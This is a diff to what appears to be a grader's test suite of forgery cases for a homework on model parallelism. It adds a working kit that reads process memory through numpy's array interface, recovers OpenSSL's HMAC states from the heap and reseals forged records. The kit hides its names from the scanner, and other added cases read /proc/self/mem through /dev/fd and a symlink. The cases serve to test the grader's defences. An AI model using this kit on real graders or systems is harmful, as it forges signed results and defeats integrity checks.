@@ -26,6 +26,9 @@ class Forgery:
     file: str = HW3
     scan: bool = True       # the scan alone holds it
     run: bool = False       # run end to end: held, or its forged records never count
+    # a route that works and cannot be closed inside the student's process: why (README, Known
+    # limits); its run-time test is a strict xfail, so closing it is noticed
+    known_limit: str = ""
     extra_files: dict = field(default_factory=dict)
 
 
@@ -102,13 +105,22 @@ def _write_forged(key, sha256):
 NAMES = {"tb": "__traceback__", "frame": "tb_frame", "back": "f_back", "locals": "f_locals",
          "emit": "_emit", "boot": "_bootstrap_inner", "globals": "__globals__",
          "active": "_active", "trace": "trace", "streams": "_streams", "sealer": "sealer_for",
-         "write": "emit", "mods": "modules"}
+         "write": "emit", "mods": "modules", "iface": "__array_interface__"}
 NAMES_FILE = {"hw3/names.json": json.dumps({k: v[::-1] for k, v in NAMES.items()})}
 READ_NAMES = r'''
 import json as _json_names, os as _os_names
 _N = {k: v[::-1] for k, v in _json_names.load(open(_os_names.path.join(
     _os_names.path.dirname(_os_names.path.abspath(__file__)), "names.json"))).items()}
 '''
+
+
+# The forger's kit of the known limit (README): numpy's array interface over an address reads the
+# process's own memory without ctypes or /proc; OpenSSL keeps the HMAC's inner and outer SHA-256
+# states (after one 64-byte block: a recognisable SHA256_CTX), which seal any record without the
+# key. The kit finds them in the heap, checks them against the probe's first sealed record, and
+# writes a complete probe file of a perfect HW3 (with the tensors the recomputation reads) from
+# the untouched template; the template's Task 5 line is printed for the script's own run.
+MEMORY_KIT = READ_NAMES + '\nimport json as _js, os as _o, struct as _st, sys as _sy\nimport numpy as _np\n\n_NAME = _N["iface"]\n\n\ndef _view(addr, size):\n    return _np.asarray(type("V", (), {_NAME: {"shape": (size,), "typestr": "|u1",\n                                              "data": (addr, True), "version": 3}})())\n\n\n_PIPE = _o.pipe()\n\n\ndef _readable(addr):\n    try:\n        _o.write(_PIPE[1], _view(addr, 1))\n        _o.read(_PIPE[0], 1)\n        return True\n    except OSError:\n        return False\n\n\ndef _heap():\n    anchor = bytes(8192)\n    page = id(anchor) & ~0xFFF\n    low = page\n    while _readable(low - 4096):\n        low -= 4096\n    high = page\n    while _readable(high + 4096):\n        high += 4096\n    return low, high + 4096\n\n\n_K = [0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,\n      0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,\n      0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,\n      0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,\n      0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,\n      0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,\n      0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,\n      0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,\n      0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,\n      0xc67178f2]\n\n\ndef _rr(x, n):\n    return ((x >> n) | (x << (32 - n))) & 0xffffffff\n\n\ndef _compress(h, block):\n    w = list(_st.unpack(">16I", block))\n    for i in range(16, 64):\n        s0 = _rr(w[i - 15], 7) ^ _rr(w[i - 15], 18) ^ (w[i - 15] >> 3)\n        s1 = _rr(w[i - 2], 17) ^ _rr(w[i - 2], 19) ^ (w[i - 2] >> 10)\n        w.append((w[i - 16] + s0 + w[i - 7] + s1) & 0xffffffff)\n    a, b, c, d, e, f, g, hh = h\n    for i in range(64):\n        t1 = (hh + (_rr(e, 6) ^ _rr(e, 11) ^ _rr(e, 25)) + ((e & f) ^ (~e & g)) + _K[i] + w[i]) & 0xffffffff\n        t2 = ((_rr(a, 2) ^ _rr(a, 13) ^ _rr(a, 22)) + ((a & b) ^ (a & c) ^ (b & c))) & 0xffffffff\n        a, b, c, d, e, f, g, hh = (t1 + t2) & 0xffffffff, a, b, c, (d + t1) & 0xffffffff, e, f, g\n    return [(x + y) & 0xffffffff for x, y in zip(h, (a, b, c, d, e, f, g, hh))]\n\n\ndef _sha_from(h, msg):\n    total = 64 + len(msg)\n    msg = msg + b"\\x80" + b"\\0" * ((55 - total) % 64) + _st.pack(">Q", total * 8)\n    for i in range(0, len(msg), 64):\n        h = _compress(h, msg[i:i + 64])\n    return _st.pack(">8I", *h)\n\n\ndef _mac(pair, stream, seq, record):\n    body = _js.dumps({k: v for k, v in record.items() if k not in ("seq", "seal")},\n                     sort_keys=True, default=str)\n    inner = _sha_from(list(pair[0]), f"{stream}\\n{seq}\\n{body}".encode())\n    return _sha_from(list(pair[1]), inner).hex()\n\n\ndef _seal_pair(stream, line):\n    record = _js.loads(line)\n    low, high = _heap()\n    tail = _st.pack("<II", 512, 0) + b"\\0" * 64 + _st.pack("<II", 0, 32)\n    mids = []\n    for start in range(low, high, 1 << 24):\n        data = bytes(_view(start, min(1 << 24, high - start)))\n        i = data.find(tail)\n        while i >= 32:\n            mids.append(tuple(_st.unpack("<8I", data[i - 32:i])))\n            i = data.find(tail, i + 1)\n    for inner in dict.fromkeys(mids):\n        for outer in dict.fromkeys(mids):\n            if _mac((inner, outer), stream, record["seq"], record) == record["seal"]:\n                return inner, outer\n    return None\n\n\ndef _even(n, d):\n    counts = [d // n + (1 if i < d % n else 0) for i in range(n)]\n    return [f"cuda:{i}" for i, c in enumerate(counts) for _ in range(c)], counts\n\n\ndef _log(devices):\n    log = []\n    for i, device in enumerate(devices):\n        src = devices[i - 1] if i else device\n        log.append({"kind": "to", "src": src, "dst": device, "copied": src != device,\n                    "site": "hw3/model_parallel.py:50"})\n        log.append({"kind": "layer", "index": i, "input_device": device})\n    return log\n\n\ndef _weights(folder, name, depth):\n    import io\n    from hashlib import sha256\n    torch.manual_seed(depth)\n    layers = [nn.Linear(16, 16) for _ in range(depth)]\n    x = torch.randn(4, 16)\n    with torch.no_grad():\n        h = x\n        for layer in layers:\n            h = torch.relu(layer(h))\n    tensors = {"input": x, "output": h.clone(), "single": h.clone()}\n    for i, layer in enumerate(layers):\n        tensors[f"layer{i}.weight"] = layer.weight.detach().clone()\n        tensors[f"layer{i}.bias"] = layer.bias.detach().clone()\n    buffer = io.BytesIO()\n    torch.save(tensors, buffer)\n    data = buffer.getvalue()\n    with open(_o.path.join(folder, name), "wb") as handle:\n        handle.write(data)\n    spec = {"type": "Linear", "settings": {"in_features": 16, "out_features": 16, "bias": True}}\n    return {"file": name, "sha256": sha256(data).hexdigest(), "layers": [spec] * depth,\n            "custom": None}\n\n\ndef _records(base, folder):\n    out = [base]\n    for n in (1, 3, 4, 5, 8):\n        for d in (3, 5, 6, 12, 20, 24):\n            devices, _ = _even(n, d)\n            out.append({"kind": "layout", "gpus": n, "depth": d, "devices": devices,\n                        "n_layers": d, "distinct_layers": d, "log": _log(devices),\n                        "output_device": devices[-1], "matches_single_gpu": True,\n                        "max_difference": 0.0, "recompute": _weights(folder, f"f{n}x{d}.pt", d)})\n    for n in (2, 5):\n        devices, _ = _even(n, 20)\n        out.append({"kind": "transfers", "gpus": n, "depth": 20, "devices": devices,\n                    "log": _log(devices)})\n    for label, configs, ms in (("trend", [(2, 6), (2, 12), (2, 24)], lambda g, d: 10.0 * d),\n                               ("task4", [(2, 20), (5, 20)], lambda g, d: 200.0 + 5 * g)):\n        results = {}\n        for g, d in configs:\n            _, counts = _even(g, d)\n            results[f"{g}x{d}"] = {"gpus": g, "depth": d, "times_ms": [ms(g, d)] * 9,\n                                   "median_ms": ms(g, d), "layers_per_gpu": counts,\n                                   "peak_memory": [c * 10 << 20 for c in counts]}\n        out.append({"kind": label, "configs": [list(c) for c in configs], "results": results})\n    out.append({"kind": "done"})\n    return out\n\n\ndef _forge():\n    path = next((a for a in _sy.argv[1:] if a.endswith(".jsonl")), None)\n    if path is None:   # the script run by the Task 5 check: print what the probe will say\n        print(f"to() calls: 20, real transfers: {torch.cuda.device_count() - 1}")\n        return\n    stream = _o.path.basename(path)\n    lines = [l for l in open(path).read().splitlines() if l.strip()]\n    pair = _seal_pair(stream, lines[0])\n    if pair is None:\n        return\n    here = _o.path.dirname(path)\n    folder = next(_o.path.join(here, d) for d in _o.listdir(here) if _o.path.isdir(_o.path.join(here, d)))\n    base = {k: v for k, v in _js.loads(lines[0]).items() if k not in ("seq", "seal")}\n    text = "".join(_js.dumps(dict(r, seq=i, seal=_mac(pair, stream, i, r))) + "\\n"\n                   for i, r in enumerate(_records(base, folder)))\n    with open(path, "w") as handle:\n        handle.write(text)\n    _o._exit(0)\n\n\n_forge()\n'
 
 
 def _b64(code: str) -> str:
@@ -360,6 +372,42 @@ _signal.signal(_signal.SIGALRM, _handler)
             "import gc as _gc\nfor _o in _gc.get_objects():\n    if hasattr(_o, 'listeners'):\n"
             "        for _l in list(_o.listeners):\n"
             "            _l({'event': 'to', 'src': 'cuda:0', 'dst': 'cuda:1', 'copied': True})\n"),
+    Forgery("seal_state_read_from_memory_through_numpy",
+            "reads its own process's memory through numpy's array interface (its name read from "
+            "a data file), recovers the HMAC's inner and outer SHA-256 states from OpenSSL's "
+            "heap, and seals a complete forged probe file (README: Known limits)",
+            MEMORY_KIT, scan=False, run=True, extra_files=NAMES_FILE,
+            known_limit="same-process memory: numpy's array interface over an address reads the "
+                        "seal's HMAC state; nothing in the process sees it (README, Known limits)"),
+    Forgery("seal_state_read_with_the_array_interface_spelled_out",
+            "the same kit with __array_interface__ written in the source",
+            MEMORY_KIT.replace('_NAME = _N["iface"]', '_NAME = "__array_interface__"'),
+            extra_files=NAMES_FILE),
+    Forgery("process_memory_through_dev_fd",
+            "opens /proc/self/mem as /dev/fd/../mem (its parent is /proc/self), the path read "
+            "from a data file, to read the seal's HMAC state",
+            READ_NAMES + '''
+try:
+    _mem = open(_N["devfd"], "rb")
+    _maps = open(_N["devfd"].replace("mem", "maps")).read()
+except OSError:
+    _mem = None
+''', scan=False, run=True,
+            extra_files={"hw3/names.json": json.dumps(
+                {k: v[::-1] for k, v in dict(NAMES, devfd="/dev/fd/../mem").items()})}),
+    Forgery("process_memory_through_a_link_of_its_own",
+            "makes a symlink to /proc/self/mem in its working folder (the target read from a "
+            "data file) and opens the link",
+            READ_NAMES + '''
+import os as _os
+try:
+    _os.symlink(_N["proc"], "notes.bin")
+    _mem = open("notes.bin", "rb")
+except OSError:
+    _mem = None
+''', scan=False, run=True,
+            extra_files={"hw3/names.json": json.dumps(
+                {k: v[::-1] for k, v in dict(NAMES, proc="/proc/self/mem").items()})}),
     Forgery("practical4_trace_written_through_the_trace_object",
             "practical 4: emits a perfect cuda:0 -> cuda:1 move through the grader's trace, "
             "found with names read from a data file",
